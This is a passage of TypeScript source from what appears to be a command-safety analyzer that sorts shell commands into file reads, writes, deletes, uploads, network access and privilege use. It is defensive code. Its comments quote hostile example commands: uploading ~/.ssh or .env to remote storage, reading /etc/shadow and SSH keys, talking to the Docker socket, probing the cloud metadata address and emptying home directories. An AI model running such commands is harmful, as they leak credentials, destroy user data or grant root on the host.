    // removing every volume's data (`docker system prune --volumes`, `docker volume prune -a`): a recursive delete of the volumes
    if (
      /^(?:docker|podman|nerdctl)$/.test(program) &&
      ((pos[0]?.value === "system" && pos[1]?.value === "prune" && args.includes("--volumes")) ||
        (pos[0]?.value === "volume" && pos[1]?.value === "prune" && args.some((a) => a === "-a" || a === "--all" || /^-\w*a/.test(a))))
    )
      this.pathOp(
        "delete",
        program === "podman" ? "~/.local/share/containers/storage/volumes" : "/var/lib/docker/volumes",
        false,
        program,
        inh,
      ).mode = "recursive";
    // file-transfer clients' command lines given by option (`lftp -e 'put .env; bye'`, `smbclient -c 'put F'`, `tftp -c put F`)
    if (/^(?:ftp|lftp|ncftp|tftp|smbclient)$/.test(program))
      for (const v of optValues(args, ["-e", "-c", "--command"]))
        for (const line of program === "tftp" ? [[v, ...pos.map((p) => p.value)].join(" ")] : v.split(/[;\n]/)) this.escape(line, program, e, inh);
    // HTTPie/xh request items that send a file (`f@path` as a form file, `k=@path` / `k:=@path` its contents)
    if (/^(?:http|https|httpie|xh|xhs)$/.test(program))
      for (const p of pos) {
        const m = /^[^=:@\s/]*(?::=|=)?@(.+)$/.exec(p.value);
        if (m && !/^[\w.-]+\.[a-z]{2,}\//i.test(p.value)) {
          this.pathOp("read", m[1], false, program, inh);
          e.caps.push("upload");
        }
      }
    // cloud storage copies of local files and trees (`aws s3 sync ~/.ssh s3://b`, `gsutil cp -r DIR gs://b`, `az storage blob upload-batch -s DIR`)
    if (
      (program === "aws" && pos[0]?.value === "s3" && /^(?:cp|sync|mv)$/.test(pos[1]?.value ?? "")) ||
      ((program === "gsutil" || program === "gcloud") && pos.some((p) => /^(?:cp|rsync|mv)$/.test(p.value)))
    ) {
      const locals = pos.filter((p) => !/^(?:s3|gs|az|https?):\/\//.test(p.value) && !/^(?:s3|cp|sync|mv|rsync|storage)$/.test(p.value));
      const dst = pos[pos.length - 1];
      for (const p of locals) if (p !== dst) this.readTree(add("read", p), p.value);
    }
    if (program === "az" && pos.some((p) => p.value === "upload-batch"))
      for (const v of optValues(args, ["-s", "--source"])) this.readTree(add("read", { value: v, idx: -1 }), v);
    // `pip config set KEY VALUE` writes pip's configuration file (the user's unless --global/--site)
    if (/^pip\d*$/.test(program) && pos[0]?.value === "config" && pos[1]?.value === "set" && pos[2]) {
      const file = args.includes("--global") ? "/etc/pip.conf" : args.includes("--site") ? "/usr/pip.conf" : "~/.config/pip/pip.conf";
      this.pathOp("write", file, false, program, inh).content = `${pos[2].value} = ${pos[3]?.value ?? ""}`.toLowerCase();
    }
    // yarn's settings that name a program or a script it runs (`script-shell`, berry's `yarnPath`)
    if (
      program === "yarn" &&
      pos[0]?.value === "config" &&
      pos[1]?.value === "set" &&
      /^(?:script-shell|shell|yarnPath|yarn-path)$/i.test(pos[2]?.value ?? "")
    ) {
      const v = pos[3]?.value ?? "";
      if (!(/^[\w.+-]+$/.test(v) && knownProgram(v)))
        this.pathOp("write", args.includes("-H") || args.includes("--home") ? "~/.yarnrc.yml" : "~/.yarnrc", false, program, inh).content =
          `${pos[2].value} ${v}`.toLowerCase();
    }
    // a container that restarts with the daemon (`--restart always|unless-stopped`, also set by `docker update`) runs at boot: a service
    if (/^(?:docker|podman|nerdctl)$/.test(program) && optValues(args, ["--restart"]).some((v) => /^(?:always|unless-stopped)$/.test(v)))
      e.caps.push("service");
    // the container engine's socket spoken to directly (`curl --unix-socket /var/run/docker.sock`, `socat - UNIX-CONNECT:…`):
    // root on the host, as mounting it into a container is
    for (const v of [
      ...optValues(args, ["--unix-socket", "--abstract-unix-socket"]),
      ...args.flatMap((a) => /^unix-(?:connect|client)?:(.+)$/i.exec(a)?.[1] ?? []),
    ])
      if (/(?:docker|containerd|podman)\.sock$/.test(v)) {
        this.pathOp("access", v, false, program, inh);
        e.caps.push("priv", "container");
      }
    // npm settings whose value is a program npm runs (`script-shell`, `shell`, `editor`, `node-options`, `git`): setting
    // one writes the npmrc of that scope, as `echo 'script-shell=…' >> ~/.npmrc` does
    if (/^(?:npm|pnpm)$/.test(program) && pos[0]?.value === "config" && pos[1]?.value === "set") {
      const kv = pos.slice(2).map((p) => p.value);
      const [k, v] = kv[0]?.includes("=") ? [kv[0].slice(0, kv[0].indexOf("=")), kv[0].slice(kv[0].indexOf("=") + 1)] : [kv[0] ?? "", kv[1] ?? ""];
      // (a program the table knows, by name alone, is not a script: `npm config set editor vim`)
      if (/^(?:script-shell|shell|editor|node-options|git|browser|viewer)$/i.test(k) && !(/^[\w.+-]+$/.test(v) && knownProgram(v))) {
        const loc = optValues(args, ["--location", "-L"])[0] ?? (args.includes("--global") || args.includes("-g") ? "global" : "user");
        const w = this.pathOp("write", loc === "project" ? ".npmrc" : loc === "global" ? "/etc/npmrc" : "~/.npmrc", false, program, inh);
        w.content = `${k}=${v}`.toLowerCase();
      }
    }
    // rclone's delete commands on a local path (no `remote:`): `rclone purge ~/x` removes the tree, `delete` its files
    if (program === "rclone" && /^(?:purge|delete|rmdirs|deletefile)$/.test(pos[0]?.value ?? "")) {
      for (const p of pos.slice(1))
        if (!/^[\w.-]*:/.test(p.value)) {
          const o = add("delete", p);
          if (pos[0].value !== "deletefile") o.mode = "recursive";
        }
      return;
    }
    // tmpreaper/tmpwatch AGE DIR…: removes what is older than AGE under each DIR (0: everything)
    if (program === "tmpreaper" || program === "tmpwatch") {
      for (const p of pos.slice(1)) add("delete", p).mode = "recursive";
      return;
    }
    if (program === "truncate") {
      // truncating to nothing erases the file: a delete
      const size = optValues(args, ["-s", "--size"])[0];
      for (const p of pos) {
        const o = add(size !== undefined && /^0+[kmgtpe]?$/i.test(size) ? "delete" : "write", p);
        // `truncate -s0 ~/Documents/*`: every file of a directory emptied, as `rm -f DIR/*` removes them
        if (o.op === "delete" && this.globWords.get(p.value) && !o.inWorkspace && !o.path.startsWith("/tmp/")) o.mode = "recursive";
      }
      return;
    }
    if (program === "git") {
      const sub = pos[0]?.value;
      // git clean -f[d][x] [paths]: deletes untracked files (directories too with -d)
      if (sub === "clean" && e.flags.some((f) => f === "f" || f === "force") && !e.flags.includes("n") && !args.includes("--dry-run")) {
        const excluded = new Set(args.flatMap((a, i) => (a === "-e" || a === "--exclude" ? [i + 1] : [])));
        const cpos = pos.slice(1).filter((p) => !excluded.has(p.idx));
        const targets = cpos.length ? cpos : [{ value: optValues(args, ["-C"])[0] ?? ".", idx: -1 }];
        for (const t of targets) {
          const o = add("delete", t);
          if (e.flags.includes("d")) o.mode = "recursive";
        }
      }
      if (sub === "rm") for (const t of pos.slice(1)) if (e.flags.some((f) => f === "r")) add("delete", t).mode = "recursive";
      if (sub === "config") this.gitConfigSet(args, pos, inh);
      // the directory hooks are taken from (`core.hooksPath`, `init.templateDir`, also as `-c k=v`): outside the
      // workspace when it is, and for every repository when set --global/--system
      const hookDirs = optValues(args, ["-c", "--config"]).flatMap((kv) => /^(?:core\.hookspath|init\.templatedir)=(.*)$/i.exec(kv)?.[1] ?? []);
      const hk = sub === "config" ? pos.findIndex((p) => /^(?:core\.hookspath|init\.templatedir)$/i.test(p.value)) : -1;
      if (hk >= 0 && pos[hk + 1] && !args.some((a) => /^--(?:get|unset)/.test(a))) {
        hookDirs.push(pos[hk + 1].value);
        if (args.includes("--global") || args.includes("--system")) e.outside = true;
      }
      for (const d of hookDirs) add("access", { value: d || "/", idx: -1 });
      // paths it is given (`git diff --no-index /dev/null ~/.ssh/id_rsa`, `git add src/x`)
      const skip = new Set(sub === "clean" ? args.flatMap((a, i) => (a === "-e" || a === "--exclude" ? [i + 1] : [])) : []);
      for (const p of pos.slice(1))
        if (looksLikePath(p.value) && p.value !== "/dev/null" && !skip.has(p.idx)) add(sub === "diff" || sub === "show" ? "read" : "access", p);
      return;
    }
    if (program === "rsync") {
      const local = pos.filter((p) => !isRemoteSpec(p.value) && !/^rsync:\/\//.test(p.value));
      const dst = pos[pos.length - 1];
      for (const p of local) if (p !== dst) this.readTree(add("read", p), p.value);
      if (dst && pos.length > 1 && !isRemoteSpec(dst.value) && !/^rsync:\/\//.test(dst.value)) {
        this.writeTree(add("write", dst), dst.value);
        // --delete*: files at the destination missing from the source are removed
        if (args.some((a) => a.startsWith("--delete") || a === "--remove-source-files")) add("delete", dst).mode = "recursive";
      }
      if (args.includes("--remove-source-files")) for (const p of local) if (p !== dst) add("delete", p);
      return;
    }
    if (DELETERS.has(program)) {
      // trash-cli and gio trash take a directory whole; the others need -r
      const recursive =
        program === "rmdir"
          ? false
          : /^(?:trash|trash-put|gio-trash)$/.test(program) || e.flags.some((f) => f === "r" || f === "R" || f === "recursive");
      // `rm -rf` is base-deny-rm-rf's (decided on the command): its deletes are marked apart so one rule reports it
      const forced = program === "rm" && e.flags.some((f) => f === "f" || f === "force");
      // xargs supplies the targets: unknown ones
      for (const p of pos.length || !inh.unknownArgs ? pos : [{ value: "", idx: -1 }]) {
        const o = add("delete", p);
        if (recursive) o.mode = forced ? "recursive-force" : "recursive";
        // `rm -f DIR/*`: every entry of a directory, which empties it like a recursive delete does
        else if (this.globWords.get(p.value) && !o.inWorkspace && !o.path.startsWith("/tmp/")) o.mode = "recursive";
      }
      return;
    }
    // gzip/bzip2/xz/lzma FILE replace FILE with FILE.gz: the original is deleted (unless -c/-k/-t/-l/--stdout/--keep)
    if (
      /^(?:gzip|bzip2|xz|lzma|compress|pigz|pbzip2)$/.test(program) &&
      !e.flags.some((f) => /^(?:c|k|t|l|stdout|to-stdout|keep|test|list)$/.test(f))
    )
      for (const p of pos) {
        add("read", p);
        add("delete", p);
      }
    // Archives extracted into a directory (`unzip -d DIR`, `7z x -oDIR`, `cpio -i` in the working directory)
    // and packages linked into one (`stow -t DIR`): the directory is written as a whole.
    const extractTo =
      program === "unzip" && !e.flags.some((f) => /^[lptvcZz]$/.test(f))
        ? (optValues(args, ["-d"])[0] ?? ".")
        : /^7z[ar]?$/.test(program) && /^[xe]$/.test(pos[0]?.value ?? "")
          ? (args.find((a) => a.startsWith("-o") && a.length > 2)?.slice(2) ?? ".")
          : program === "cpio" && e.flags.some((f) => f === "i" || f === "extract")
            ? (optValues(args, ["-D", "--directory"])[0] ?? ".")
            : program === "stow" && !e.flags.some((f) => f === "n" || f === "no" || f === "simulate")
              ? (optValues(args, ["-t", "--target"])[0] ?? "..")
              : undefined;
    if (extractTo !== undefined) {
      const raw = extractTo === "." ? this.env.cwd : extractTo === ".." ? resolvePath("..", this.env) : extractTo;
      this.writeTree(this.pathOp("write", raw, false, program, inh), raw);
      if (program === "stow") return;
    }
    // `7z a -sdel ARCHIVE FILES`: the files are deleted once archived
    if (/^7z[ar]?$/.test(program) && pos[0]?.value === "a" && args.includes("-sdel"))
      for (const p of pos.slice(2)) this.readTree(add("delete", p), p.value).mode = "recursive";
    if (READERS.has(program) && prog.pos === "r") {
      // archivers add directories whole (`7z a x.7z ~/.aws`)
      const tree = /^(?:7z|7za|7zr|rar|arj|lha|cpio|pax)$/.test(program);
      for (const p of pos) {
        const o = add("read", p);
        if (tree) this.readTree(o, p.value);
      }
      return;
    }
    if (PATTERN_FIRST.has(program)) {
      // perl's code given by -e, also bundled (`perl -pe1 F`, `-ne 'print'`): every positional is a file it reads
      const explicit = args.some(
        (a) =>
          /^(-e|-f|--regexp|--file|--expression|--from-file)$/.test(a) ||
          /^--(regexp|expression|file|from-file)=/.test(a) ||
          (program === "perl" && /^-[a-zA-Z]*[eE]/.test(a)),
      );
      const files = explicit ? pos : pos.slice(1);
      if (/awk$/.test(program) && !explicit && pos[0]) {
        e.code = pos[0].value.toLowerCase();
        this.code(pos[0].value, program, inh, e);
        // `awk -v f=/etc/shadow '… getline < f'`: a variable holding a path is a file the program may open
        for (const v of optValues(args, ["-v", "--assign"])) {
          const m = /^\w+=(.+)$/.exec(v);
          if (m && looksLikePath(m[1])) this.pathOp("access", m[1], false, program, inh);
        }
      }
      const inPlace = triggeredCaps(prog, args, e.flags).includes("write") || (program === "perl" && args.some((a) => /^-[a-zA-Z]*i/.test(a)));
      // grep -r / rg / ag / ack read directories whole
      const tree =
        /^(?:rg|ag|ack)$/.test(program) || e.flags.some((f) => f === "r" || f === "R" || f === "recursive" || f === "dereference-recursive");
      for (const p of files) {
        const o = add(inPlace ? "write" : "read", p);
        if (tree && !inPlace) this.readTree(o, p.value);
      }
      return;
    }
    if (WRITERS.has(program)) {
      const ps = SKIP_FIRST_POSITIONAL.has(program) ? pos.slice(1) : pos;
      // editors (`ed -s F`, `vim F`) read the file they open as well as write it
      const reads = prog.pos === "w" && prog.can.includes("read");
      for (const p of ps) {
        if (reads) add("read", p);
        add("write", p);
      }
      return;
    }
    if (COPIERS.has(program)) {
      const local = pos.filter((p) => !isRemoteSpec(p.value));
      const target = optValues(args, ["-t", "--target-directory"])[0];
      // `scp f host:/x`: every local file is a source (an upload), none is written
      const toRemote = !target && pos.length > 1 && isRemoteSpec(pos[pos.length - 1].value);
      const srcs = target || toRemote ? local : local.slice(0, -1);
      const dst = toRemote ? undefined : target ? { value: target, idx: -1 } : local[local.length - 1];
      const tree =
        program === "rclone" || program === "ditto" || (program !== "mv" && e.flags.some((f) => ["r", "R", "a", "recursive", "archive"].includes(f)));
      for (const p of srcs) {
        const o = add(program === "mv" ? "delete" : "read", p);
        if (tree) this.readTree(o, p.value);
      }
      if (program === "mv") for (const p of srcs) add("read", p);
      if (program === "mv" && dst && !inWorkspace(resolvePath(dst.value, this.env), this.env))
        for (const o of this.ops.slice(-2 * srcs.length)) if (o.op === "delete" && !o.inWorkspace) o.mode = "recursive";
      if (dst && (target || local.length > 1 || pos.length > local.length)) {
        const w = add("write", dst);
        // a tree copied into a directory outside the workspace (`cp -r dots/. ~`) writes every file under it
        if (tree && program !== "mv") this.writeTree(w, dst.value);
      }
      return;
    }
    if (prog.pos === "r1w") {
      if (pos[0]) add("read", pos[0]);
      if (pos[1] && program !== "xxd") add("write", pos[1]);
      if (pos[1] && program === "xxd") add(args.includes("-r") ? "write" : "write", pos[1]);
      return;
    }
    if (program === "tar" || program === "bsdtar" || program === "gtar") {
      const a0 = args[0] ?? "";
      // the mode, bundled first (`tar czf`, `-czf`) or after other options (`tar -C DIR -czf - .`)
      const bundle = args.findIndex((a, i) => (i === 0 ? /^-?[a-zA-Z]+$/ : /^-[a-zA-Z]{2,}$/).test(a) && /[cxtru]/.test(a));
      const mode = bundle >= 0 ? args[bundle] : "";
      const create = /c/.test(mode) || args.includes("--create");
      // `tar cf x.tar …`: the first word is the bundled mode, not a file
      const tpos = a0 && !a0.startsWith("-") && pos[0]?.idx === 0 ? pos.slice(1) : pos;
      const file =
        optValues(args, ["-f", "--file"])[0] ??
        (bundle === 0 && !a0.startsWith("-") && /f/.test(a0) ? tpos[0]?.value : /f$/.test(mode) ? args[bundle + 1] : undefined);
      if (file) this.pathOp(create ? "write" : "read", file, false, program, inh);
      if (create) {
        // `tar -C DIR -c …`: the files it archives are under DIR; `--remove-files` deletes them once archived
        const dir = optValues(args, ["-C", "--directory"])[0];
        const saved = this.env;
        if (dir !== undefined) this.env = { ...this.env, cwd: resolvePath(dir, this.env) };
        try {
          for (const p of tpos.filter((p) => p.value !== file)) {
            this.readTree(add("read", p), p.value);
            if (args.includes("--remove-files")) add("delete", p).mode = "recursive";
          }
        } finally {
          this.env = saved;
        }
      } else {
        const extract = /x/.test(mode) || args.includes("--extract") || args.includes("--get");
        const dirs = optValues(args, ["-C", "--directory"]);
        for (const d of dirs) {
          const o = this.pathOp("write", d, false, program, inh);
          if (extract) this.writeTree(o, d);
        }
        if (extract && !dirs.length) this.writeTree(this.pathOp("write", ".", false, program, inh), this.env.cwd);
      }
      return;
    }
    if (prog.pos === "wr") {
      const tree = e.flags.some((f) => f === "r" || f === "recurse-paths");
      for (const [i, p] of pos.entries()) {
        const o = add(i === 0 ? "write" : "read", p);
        if (i > 0 && tree) this.readTree(o, p.value);
        // `zip -m`: the files are moved into the archive (deleted where they were)
        if (i > 0 && program === "zip" && e.flags.some((f) => f === "m" || f === "move")) add("delete", p).mode = tree ? "recursive" : "";
      }
      return;
    }
    // `docker cp HOST_PATH CONTAINER:PATH` copies a host file or tree into a container (a read of it);
    // `docker cp CONTAINER:PATH HOST_PATH` writes the host path
    if ((program === "docker" || program === "podman" || program === "nerdctl") && pos[0]?.value === "cp" && pos.length >= 3) {
      const [src, dst] = [pos[pos.length - 2], pos[pos.length - 1]];
      const inCtr = (v: string) => /^[\w.-]+:/.test(v) && !v.startsWith("/");
      if (inCtr(dst.value) && !inCtr(src.value)) this.readTree(add("read", src), src.value);
      else if (inCtr(src.value) && !inCtr(dst.value)) this.writeTree(add("write", dst), dst.value);
      return;
    }
    if (program === "docker" || program === "podman" || program === "nerdctl") {
      // bind mounts: the container reads (`:ro`) or writes the host path; --env-file is read
      for (const v of optValues(args, ["-v", "--volume"])) {
        const [src, , opt] = v.split(":");
        if (!src || !/^(?:\/|~|\.|\$)/.test(src)) continue;
        const ro = /\bro\b/.test(opt ?? "");
        const o = this.pathOp(ro ? "read" : "write", src, false, program, inh);
        if (ro) this.readTree(o, src);
      }
      for (const v of optValues(args, ["--mount"])) {
        const src = /(?:^|,)(?:source|src)=([^,]+)/.exec(v)?.[1];
        if (!src || !/(?:^|,)type=bind/.test(v)) continue;
        const ro = /(?:^|,)(?:readonly|ro)(?:,|=true|$)/.test(v);
        const o = this.pathOp(ro ? "read" : "write", src, false, program, inh);
        if (ro) this.readTree(o, src);
      }
      for (const v of optValues(args, ["--env-file"])) this.pathOp("read", v, false, program, inh);
      return;
    }
    if (program === "curl") {
      args = unbundleCurl(args);
      for (const v of optValues(args, ["-o", "--output"])) if (v !== "-" && v !== "/dev/null") this.pathOp("write", v, false, program, inh);
      for (const v of optValues(args, ["-T", "--upload-file", "-K", "--config"])) this.pathOp("read", v, false, program, inh);
      for (const v of optValues(args, ["-d", "--data", "--data-binary", "--data-raw", "--data-urlencode", "-F", "--form", "--json"])) {
        const m = /@([^;,\s]+)/.exec(v);
        if (m && m[1] !== "-") this.pathOp("read", m[1], false, program, inh);
        // -F 'name=<FILE': the field's value is the file's content
        const lt = /^[^=]*=<([^;,\s]+)/.exec(v);
        if (lt && lt[1] !== "-") this.pathOp("read", lt[1], false, program, inh);
      }
      return;
    }
    if (program === "wget") {
      for (const v of optValues(args, ["-O", "--output-document"])) if (v !== "-" && v !== "/dev/null") this.pathOp("write", v, false, program, inh);
      for (const v of optValues(args, ["--post-file", "-i", "--input-file", "--body-file"])) this.pathOp("read", v, false, program, inh);
      return;
    }
    if (program === "gio" && ["trash", "remove", "rm"].includes(pos[0]?.value ?? "")) {
      for (const p of pos.slice(1)) add("delete", p).mode = "recursive";
      return;
    }
    // Programs whose arguments' effect is not known: any argument that looks like a path is "accessed".
    for (const p of pos) if (looksLikePath(p.value)) add("access", p);
    for (const a of args) {
      const m = /^--?[\w-]+=((?:~|\/|\.\.?\/)\S*)$/.exec(a);
      if (m) this.pathOp("access", m[1], false, program, inh);
    }
  }

  private network(program: string, args: string[], pos: { value: string; idx: number }[], inh: Inherit) {
    if (DOWNLOADERS.includes(program) || program === "curlie" || program === "wget2") {
      if (program === "curl") args = unbundleCurl(args);
      const isCurl = program === "curl";
      const upload =
        args.some(
          (a) =>
            /^(-T|--upload-file|-F|--form|-d|--data|--data-binary|--data-raw|--json|--post-file|--post-data)$/.test(a) ||
            /^--(data|form|upload-file|post-file|post-data|json)[\w-]*=/.test(a),
        ) ||
        (args.includes("-X") && /^(POST|PUT|PATCH)$/i.test(args[args.indexOf("-X") + 1] ?? ""));
      const saves =
        program === "aria2c" ||
        (isCurl
          ? args.some((a) => /^(-o|--output|-O|--remote-name|--remote-name-all|-J)$/.test(a) || /^-[a-zA-Z]*O[a-zA-Z]*$/.test(a))
          : program === "wget" &&
            !optValues(args, ["-O", "--output-document"]).some((v) => v === "-" || v === "/dev/null") &&
            !args.includes("--spider") &&
            !args.some((a) => /^-[a-zA-Z]*O-$/.test(a)));
      const maxBytes = isCurl ? parseSize(optValues(args, ["--max-filesize"])[0] ?? "") : -1;
      // the proxy it connects to (`curl -x http://169.254.169.254:80 …`, `HTTP_PROXY=… curl …`, wget's -e https_proxy=…)
      for (const v of [
        ...(isCurl ? optValues(args, ["-x", "--proxy", "--preproxy", "--socks5", "--socks5-hostname", "--socks4"]) : []),
        ...optValues(args, ["-e", "--execute"]).flatMap((x) => /^\w*_?proxy\s*=\s*(\S+)/i.exec(x)?.[1] ?? []),
        ...this.proxyVars,
      ]) {
        const t = parseTarget(v, "http");
        if (t) this.net(program, t, inh);
      }
      // --resolve host:port:addr and --connect-to h:p:addr:port send the request to another address
      if (isCurl)
        for (const v of optValues(args, ["--resolve", "--connect-to"])) {
          const parts = v.includes("[") ? splitHostPort(v.replace(/^\+/, "")) : v.replace(/^\+/, "").split(":");
          const addr = (parts.length >= 3 ? parts[2] : "").replace(/^\[|\]$/g, "");
          if (addr) this.net(program, { url: `http://${addr}`, host: addr.toLowerCase(), port: Number(parts[3] ?? parts[1]) || 80 }, inh);
        }
      // the file it saves: a program run from it later on the line is code fetched from the network
      const urls = pos.map((p) => p.value).filter((p) => /^[a-z]+:\/\//i.test(p) || /^[\w.-]+\.[a-z]{2,}\//i.test(p));
      const named = optValues(args, isCurl ? ["-o", "--output"] : ["-O", "--output-document", "-o"]).filter((v) => v !== "-" && v !== "/dev/null");
      if (saves) {
        for (const v of named) this.fetched.push(resolvePath(v, this.env));
        if (!named.length)
          for (const u of urls) this.fetched.push(resolvePath(basename(u.replace(/[?#].*$/, "").replace(/\/+$/, "")) || "index.html", this.env));
      }
      for (const p of [...pos.map((p) => p.value), ...optValues(args, ["--url"])]) {
        if (/^file:\/\//i.test(p)) {
          this.pathOp("read", decodeURIComponent(p.replace(/^file:\/\/(?:localhost)?/i, "")), false, program, inh);
          continue;
        }
        // httpie's `:18789/path` is localhost
        const t = parseTarget(/^:\d+/.test(p) && /^(?:http|https|httpie|xh|xhs)$/.test(program) ? `localhost${p}` : p, "http");
        if (!t) continue;
        const n = this.net(program, t, inh, upload);
        if (saves) this.download(n, maxBytes);
      }
      return;
    }
    if (
      program === "ssh" ||
      program === "mosh" ||
      program === "dbclient" ||
      program === "plink" ||
      program === "autossh" ||
      program === "slogin" ||
      program === "ssh-copy-id" ||
      program === "ssh-keyscan" ||
      program === "sshfs"
    ) {
      const host = program === "sshfs" ? pos.find((p) => isRemoteSpec(p.value))?.value.replace(/:.*$/, "") : pos[0]?.value;
      for (const j of optValues(args, ["-J"])) for (const hop of j.split(",")) this.sshTarget(program, hop, -1, inh);
      // -o ProxyCommand / LocalCommand run a local command line
      for (const o of optPairs(args, ["-o"])) {
        const m = /^(ProxyCommand|LocalCommand|KnownHostsCommand|RemoteCommand)\s*[= ]\s*([\s\S]+)$/i.exec(o[1]);
        if (m && m[1].toLowerCase() !== "remotecommand") this.runString(m[2], inh);
      }
      if (host) {
        // PuTTY's plink names the port with -P; mosh's ssh command line (`--ssh='ssh -p 2222'`) gives its own
        let port = sshPort(args, program === "plink" ? "-P" : "-p");
        for (const cmd of program === "mosh" ? optValues(args, ["--ssh"]) : []) if (port === -1) port = sshPort(cmd.split(/\s+/).slice(1), "-p");
        const n = this.sshTarget(program, host, port, inh);
        // root on this machine over ssh is privilege elevation
        const e = [...this.ops].reverse().find((o) => o.op === "exec" && o.program === program);
        if (
          n &&
          e &&
          (/^root@/.test(host) || optValues(args, ["-l"])[0] === "root") &&
          isPrivateHost(n.host) &&
          /^(?:localhost|127\.|::1|0\.0\.0\.0)/.test(n.host)
        )
          e.caps.push("priv");
      }
      return;
    }
    if (program === "scp" || program === "rsync" || program === "sftp" || program === "psftp" || program === "pscp") {
      let port = sshPort(args, program === "rsync" ? "" : "-P");
      // rsync -e 'ssh -p 2222' / --rsh=…: the remote shell command (run here) and the port it names
      for (const rsh of [...optValues(args, ["-e", "--rsh"]), ...optValues(args, ["-S"])]) {
        this.runString(rsh, inh);
        const words = rsh.split(/\s+/);
        const p = sshPort(words.slice(1), "-p");
        if (p !== -1 && port === -1) port = p;
      }
      const remoteIdx = pos.findIndex((p) => isRemoteSpec(p.value));
      for (const p of pos) {
        const daemon = /^rsync:\/\//.test(p.value) || /^[^/:]+::/.test(p.value);
        if (!isRemoteSpec(p.value) && !daemon && !((program === "sftp" || program === "psftp") && p === pos[0])) continue;
        if (daemon) {
          const t = parseTarget(p.value.replace(/^([^/:]+)::/, "rsync://$1/"), "rsync");
          if (t) this.net(program, { ...t, port: Number(optValues(args, ["--port"])[0] ?? t.port) }, inh, remoteIdx === pos.length - 1);
          continue;
        }
        const h = p.value.split(":")[0];
        const n = this.sshTarget(program, h, port, inh, remoteIdx === pos.length - 1 && pos.length > 1);
        if (n && remoteIdx !== pos.length - 1) this.download(n, -1);
      }
      return;
    }
    if (program === "git") {
      // -c core.sshCommand / GIT_SSH_COMMAND-like settings and `ext::` transports run commands here
      let sshCmdPort = -1;
      for (const kv of optValues(args, ["-c", "--config"])) {
        const m = /^([\w.-]+)=([\s\S]*)$/.exec(kv);
        if (!m) continue;
        const key = m[1].toLowerCase();
        if (GIT_COMMAND_KEY.test(key)) {
          const cmd = m[2].replace(/^!/, "");
          if (cmd) this.runString(cmd, inh);
          if (key === "core.sshcommand") sshCmdPort = sshPort(cmd.split(/\s+/).slice(1), "-p");
        }
      }
      for (const v of optValues(args, ["--upload-pack", "--receive-pack", "--exec", "-u"])) this.runString(v, inh);
      const push = args.includes("push");
      for (const p of pos) {
        if (/^ext::/.test(p.value)) {
          this.runString(p.value.slice(5).replace(/%S/g, "").replace(/%G/g, ""), inh);
          continue;
        }
        const scp = /^(?:[\w.-]+@)?([\w.-]+):(?!\/\/)/i.exec(p.value);
        if (
          scp &&
          !/^[a-z]:\\/i.test(p.value) &&
          (scp[1].includes(".") ||
            p.value.includes("@") ||
            ["clone", "fetch", "pull", "push", "ls-remote", "remote", "submodule"].includes(pos[0]?.value ?? ""))
        ) {
          if (["clone", "fetch", "pull", "push", "ls-remote", "remote", "submodule", "archive"].includes(pos[0]?.value ?? "") || scp[1].includes("."))
            this.sshTarget(program, scp[1], sshCmdPort, inh, push);
        } else if (/^[a-z][a-z0-9+.-]*:\/\//i.test(p.value)) {
          const t = parseTarget(p.value);
          if (t)
            this.net(
              program,
              t.scheme === "ssh" && !/:\d+(\/|$)/.test(p.value.replace(/^ssh:\/\/[^/]*@/, "ssh://")) && sshCmdPort !== -1
                ? { ...t, port: sshCmdPort }
                : t,
              inh,
              push,
            );
        }
      }
      return;
    }
    if (program === "openssl") {
      const c = optValues(args, ["-connect"])[0];
      if (c) {
        const [h, p] = portOf(c, 443);
        this.net(program, { url: `tcp://${c}`, host: h.toLowerCase(), port: p }, inh);
      }
      return;
    }
    // websocat runs the command of a `sh-c:`/`cmd:`/`exec:` address
    if (program === "websocat") {
      for (const a of args) {
        const m = /^(?:sh-c|cmd|exec):([\s\S]+)$/i.exec(a);
        if (m) this.runString(m[1], inh);
      }
    }
    if (program === "socat") {
      for (const a of args) {
        const m = /^(?:tcp|tcp4|tcp6|tcp-connect|openssl|ssl|udp|udp4|udp6|openssl-connect|proxy:[^:]+)[:-]([^:,]+):(\d+)/i.exec(a);
        if (m && !/listen/i.test(a)) this.net(program, { url: a, host: m[1].toLowerCase(), port: Number(m[2]) }, inh);
        const ex = /^(?:exec|system):([\s\S]+?)(?:,(?:pty|stderr|setsid|sigint|sane|ctty|fdin|fdout|nofork)[\s\S]*)?$/i.exec(a);
        if (ex) this.runString(ex[1], inh);
      }
      return;
    }
    // Programs that reach a host over ssh by URL (`unison . ssh://h//srv`, `borg init ssh://u@h/./r`, restic's
    // `-r sftp:u@h:/x`, rclone's `:sftp,host=h:`), and ansible's inline inventory (`-i 'h1,h2,'`): each is an ssh
    // connection, on port 22 unless it says otherwise. Only for programs that connect (not `echo ssh://…`).
    if (!knownProgram(program) || progOf(program).can.includes("net")) {
      let seen = false;
      for (const a of [...args, ...this.sshVars]) {
        if (/^(?:ssh|sftp|scp):\/\/./i.test(a)) {
          const t = parseTarget(a, a.slice(0, a.indexOf(":")).toLowerCase());
          if (t) seen = !!this.net(program, t, inh);
          continue;
        }
        // a transport over ssh (`qemu+ssh://`, `bzr+ssh://`, `git+ssh://`, `ssh+git://`): the ssh URL it is
        const plus = /^(?:[a-z][\w.-]*\+)?(?:ssh|sftp)(?:\+[a-z][\w.-]*)?:\/\/(.+)$/i.exec(a);
        if (plus) {
          const t = parseTarget(`ssh://${plus[1]}`, "ssh");
          if (t) seen = !!this.net(program, t, inh);
          continue;
        }
        // `user@host:path` / `user@host::path` (rdiff-backup, mutagen, unison): scp-style, over ssh
        const scpLike = /^[\w.-]+@([\w-]+(?:\.[\w-]+)+)::?(?!\/\/)/.exec(a);
        if (scpLike && !/^(?:scp|rsync|sftp|psftp|pscp|git)$/.test(program)) seen = !!this.sshTarget(program, scpLike[1], -1, inh);
        const sftp = /^sftp:((?:[^@\s/:]+@)?[\w.-]+):/i.exec(a);
        if (sftp) seen = !!this.sshTarget(program, sftp[1], -1, inh);
        const rc = /^:sftp,(?:[^:]*,)?host=([^,:]+)(?:[^:]*,port=(\d+))?/i.exec(a);
        if (rc) seen = !!this.sshTarget(program, rc[1], rc[2] ? Number(rc[2]) : 22, inh);
      }
      // terminal emulators' own ssh (`kitty +kitten ssh HOST`, `kitten ssh HOST`, `wezterm ssh HOST`)
      if (/^(?:kitty|kitten|wezterm)$/.test(program)) {
        const k = pos.findIndex((p) => p.value === "ssh");
        if (k >= 0 && pos[k + 1]) seen = !!this.sshTarget(program, pos[k + 1].value, sshPort(args, "-p"), inh) || seen;
      }
